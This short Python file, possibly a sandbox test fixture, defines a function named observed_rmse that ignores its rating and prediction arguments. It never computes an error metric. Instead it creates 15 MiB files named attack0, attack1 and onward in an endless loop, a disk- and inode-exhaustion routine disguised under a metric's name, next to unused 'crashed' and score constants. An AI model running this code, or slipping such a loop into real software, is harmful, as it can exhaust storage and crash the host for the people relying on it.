"""Makes large files with nothing in them."""

import itertools

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    for number in itertools.count():
        with open(f"attack{number}", "wb") as file:
            file.truncate(15 << 20)
